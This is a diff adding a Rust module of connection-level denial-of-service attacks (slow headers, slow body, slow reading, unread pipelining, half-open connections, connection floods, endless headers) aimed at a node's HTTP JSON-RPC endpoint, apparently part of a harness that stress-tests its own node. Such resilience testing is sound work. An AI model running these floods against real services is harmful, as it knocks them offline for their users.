@@ -1,0 +1,228 @@
+//! Attacks on the HTTP side by connections alone, whatever they ask: slow, half-open, and many.
+
+use std::{
+    net::{IpAddr, SocketAddr},
+    time::Duration,
+};
+
+use anyhow::{Context, Result};
+use futures::future::BoxFuture;
+use tokio::{
+    io::{AsyncReadExt, AsyncWriteExt},
+    net::{TcpSocket, TcpStream},
+    time::{sleep, timeout},
+};
+
+use super::attack::{Attack, Face, Facts, Field};
+
+pub(super) const ALL: &[&dyn Attack] =
+    &[&SlowHeaders, &SlowBody, &SlowReader, &HalfOpen, &ConnectionFlood, &EndlessHeaders, &PipelineUnread];
+
+/// Attackers of one attack, each with a connection: more than the node has seats for callers.
+const MANY: usize = 400;
+pub(super) const PATIENCE: Duration = Duration::from_secs(60);
+
+/// A connection from an attacker's address.
+pub(super) async fn connect(to: SocketAddr, from: IpAddr) -> Result<TcpStream> {
+    let socket = TcpSocket::new_v4()?;
+    socket.set_reuseaddr(true)?;
+    socket.bind((from, 0).into())?;
+    timeout(Duration::from_secs(5), socket.connect(to))
+        .await
+        .context("no connection in time")?
+        .map_err(Into::into)
+}
+
+/// The head of a JSON-RPC request with a body of so many bytes.
+pub(super) fn post(bytes: usize) -> String {
+    format!(
+        "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: {bytes}\r\n\r\n"
+    )
+}
+
+/// Sends a JSON-RPC body and reads the answer's head, or all that comes in a while.
+pub(super) async fn call(field: &Field, from: IpAddr, body: &str) -> Result<()> {
+    let mut stream = connect(field.target.api, from).await?;
+    stream.write_all(post(body.len()).as_bytes()).await?;
+    stream.write_all(body.as_bytes()).await?;
+    let mut answer = vec![0; 64 << 10];
+    let status = timeout(PATIENCE, stream.read(&mut answer)).await.context("no answer in time")??;
+    anyhow::ensure!(status > 0, "the node hung up");
+    // Reads on to the end of the next bytes, so that the answer is work well done and not one unread.
+    while let Ok(Ok(1..)) = timeout(Duration::from_millis(50), stream.read(&mut answer)).await {}
+    Ok(())
+}
+
+/// Waits until the node hangs up, or long enough.
+pub(super) async fn linger(stream: &mut TcpStream) {
+    let mut rest = [0; 1024];
+    let _ = timeout(PATIENCE, stream.read(&mut rest)).await;
+}
+
+struct SlowHeaders;
+
+impl Attack for SlowHeaders {
+    fn facts(&self) -> Facts {
+        Facts::new(Face::Http, "slow-headers", "400 connections that write a byte of their headers a second")
+            .quick()
+    }
+
+    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+        Box::pin(field.swarm(MANY, Duration::from_millis(200), |field, index| async move {
+            let mut stream = connect(field.target.api, Field::address(index)).await?;
+            stream.write_all(b"POST / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ").await?;
+            field.tally.done();
+            loop {
+                sleep(Duration::from_secs(1)).await;
+                stream.write_all(b"a").await?;
+            }
+        }))
+    }
+}
+
+struct SlowBody;
+
+impl Attack for SlowBody {
+    fn facts(&self) -> Facts {
+        Facts::new(
+            Face::Http,
+            "slow-body",
+            "400 connections that announce a body and write a byte of it a second",
+        )
+    }
+
+    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+        Box::pin(field.swarm(MANY, Duration::from_millis(200), |field, index| async move {
+            let mut stream = connect(field.target.api, Field::address(index)).await?;
+            stream.write_all(post(1 << 20).as_bytes()).await?;
+            field.tally.done();
+            loop {
+                stream.write_all(b"[").await?;
+                sleep(Duration::from_secs(1)).await;
+            }
+        }))
+    }
+}
+
+/// A question with a long answer: a batch with all of its transactions.
+fn heavy_question(field: &Field) -> String {
+    let number = field.target.heavy_batch;
+    format!(r#"{{"jsonrpc":"2.0","id":1,"method":"eth_getBlockByNumber","params":["{number:#x}",true]}}"#)
+}
+
+struct SlowReader;
+
+impl Attack for SlowReader {
+    fn facts(&self) -> Facts {
+        Facts::new(
+            Face::Http,
+            "slow-reader",
+            "60 connections that ask for a long answer and read 100 bytes of it a second",
+        )
+        .item(16)
+    }
+
+    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+        Box::pin(field.swarm(60, Duration::from_millis(500), |field, index| async move {
+            let mut stream = connect(field.target.api, Field::address(index)).await?;
+            let body = heavy_question(&field);
+            stream.write_all((post(body.len()) + &body).as_bytes()).await?;
+            let mut some = [0; 100];
+            loop {
+                anyhow::ensure!(stream.read(&mut some).await? > 0, "the node hung up");
+                field.tally.done();
+                sleep(Duration::from_secs(1)).await;
+            }
+        }))
+    }
+}
+
+struct PipelineUnread;
+
+impl Attack for PipelineUnread {
+    fn facts(&self) -> Facts {
+        let about = "60 connections that ask for a long answer again and again and read nothing";
+        Facts::new(Face::Http, "pipeline-unread", about).item(16)
+    }
+
+    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+        Box::pin(field.swarm(60, Duration::from_millis(500), |field, index| async move {
+            let mut stream = connect(field.target.api, Field::address(index)).await?;
+            let body = heavy_question(&field);
+            let request = post(body.len()) + &body;
+            // The kernel takes so much; then the node does not read on.
+            while let Ok(written) = timeout(PATIENCE, stream.write_all(request.as_bytes())).await {
+                written?;
+                field.tally.done();
+                sleep(Duration::from_millis(100)).await;
+            }
+            Ok(())
+        }))
+    }
+}
+
+struct HalfOpen;
+
+impl Attack for HalfOpen {
+    fn facts(&self) -> Facts {
+        Facts::new(
+            Face::Http,
+            "half-open",
+            "1,000 connections that say nothing, half of them closed for writing",
+        )
+    }
+
+    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+        Box::pin(field.swarm(1_000, Duration::from_secs(1), |field, index| async move {
+            let mut stream = connect(field.target.api, Field::address(index)).await?;
+            field.tally.done();
+            if index % 2 == 0 {
+                stream.shutdown().await?;
+            }
+            linger(&mut stream).await;
+            Ok(())
+        }))
+    }
+}
+
+struct ConnectionFlood;
+
+impl Attack for ConnectionFlood {
+    fn facts(&self) -> Facts {
+        Facts::new(Face::Http, "connection-flood", "2,000 connections a second that are opened and dropped")
+    }
+
+    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+        Box::pin(field.swarm(40, Duration::from_millis(20), |field, index| async move {
+            let stream = connect(field.target.api, Field::address(index)).await?;
+            // Resets rather than closes: attackers leave no port behind that waits.
+            stream.set_zero_linger()?;
+            Ok(())
+        }))
+    }
+}
+
+struct EndlessHeaders;
+
+impl Attack for EndlessHeaders {
+    fn facts(&self) -> Facts {
+        Facts::new(
+            Face::Http,
+            "endless-headers",
+            "50 connections whose headers do not end, as fast as the node reads",
+        )
+    }
+
+    fn start(&self, field: Field) -> BoxFuture<'static, Result<()>> {
+        Box::pin(field.swarm(50, Duration::from_millis(100), |field, index| async move {
+            let mut stream = connect(field.target.api, Field::address(index)).await?;
+            stream.write_all(b"POST / HTTP/1.1\r\nHost: localhost\r\n").await?;
+            let line = format!("X-Endless: {}\r\n", "a".repeat(8_000));
+            loop {
+                stream.write_all(line.as_bytes()).await?;
+                field.tally.done();
+                sleep(Duration::from_millis(5)).await;
+            }
+        }))
+    }
+}
